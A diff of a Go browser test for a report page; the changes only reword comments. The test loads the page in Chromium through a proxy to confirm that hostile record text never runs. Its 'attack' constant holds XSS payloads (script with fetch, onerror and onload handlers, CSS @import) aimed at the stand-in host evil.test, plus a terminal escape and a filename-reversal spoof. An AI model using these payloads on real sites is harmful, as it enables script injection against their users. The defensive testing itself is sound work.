@@ -24,23 +24,23 @@ import (
 	"doppel/pkg/tool"
 )
 
-// attack is what a record may hold to act on those who look at it.
+// attack is text in a record that tries to run code in the reader's browser.
 const attack = `<script>document.title='run';fetch('http://evil.test/a')</script>` +
 	`<img src="http://evil.test/b" onerror="document.title='run'"><svg onload="document.title='run'"/>` +
 	`</details></div></style><style>@import "http://evil.test/c"</style><link rel=stylesheet href="http://evil.test/d">` +
 	"\x1b]0;run\x07\u202egnp.exe \xff"
 
-// own are the hosts that the browser calls for itself, whatever it shows.
+// own matches hosts that the browser contacts by itself, for any page.
 var own = regexp.MustCompile(`\.(google|googleapis|gvt1)\.com(:443)?$`)
 
-// A seen is what a browser made of a page.
+// A seen is a page as a browser loaded it.
 type seen struct {
 	requests []string
 	dom, log string
 }
 
-// look opens a page in the browser. The browser has all its requests go through a
-// proxy, which serves the page and nothing else.
+// look opens a page in the browser. All its requests go through a proxy that serves only
+// the page.
 func look(t *testing.T, page []byte) (s seen) {
 	t.Helper()
 	const address = "http://report.test/page.html"
@@ -74,7 +74,7 @@ func look(t *testing.T, page []byte) (s seen) {
 	return s
 }
 
-// console returns what the page had to say.
+// console returns the page's console messages.
 func (s seen) console() (lines []string) {
 	for l := range strings.Lines(s.log) {
 		if strings.Contains(l, "CONSOLE") {
@@ -84,8 +84,8 @@ func (s seen) console() (lines []string) {
 	return lines
 }
 
-// hostile writes records that attack, one of them with a line of 10 MB, and returns the page of
-// a run that drops most of them.
+// hostile writes records with attacks, one of them with a line of 10 MB, and returns the
+// page of a run that drops most of them.
 func hostile(t *testing.T) []byte {
 	dir := t.TempDir()
 	records, decisions, scores := filepath.Join(dir, "r.jsonl"), filepath.Join(dir, "d"), filepath.Join(dir, "s")
@@ -111,8 +111,8 @@ func hostile(t *testing.T) []byte {
 	return page.Bytes()
 }
 
-// In a real browser the page is one request, has nothing to complain of, and all that
-// it should: nothing of a record acts.
+// In a real browser the page makes one request, logs nothing, and is complete: no text of a
+// record acts.
 func TestBrowser(t *testing.T) {
 	stagetest.Need(t, t.Name(), "chromium")
 	page := hostile(t)
@@ -143,7 +143,7 @@ func TestBrowser(t *testing.T) {
 	}
 }
 
-// So is a page of equal files, whatever they are called.
+// The same holds for a page of equal files, whatever their names.
 func TestBrowserFiles(t *testing.T) {
 	stagetest.Need(t, t.Name(), "chromium")
 	tally := filereport.New()
@@ -175,7 +175,7 @@ func TestBrowserFiles(t *testing.T) {
 	}
 }
 
-// The tests above would see an attack that succeeds.
+// The tests above would detect a successful attack.
 func TestBrowserSees(t *testing.T) {
 	stagetest.Need(t, t.Name(), "chromium")
 	s := look(t, []byte("<!DOCTYPE html><title>x</title>"+attack))
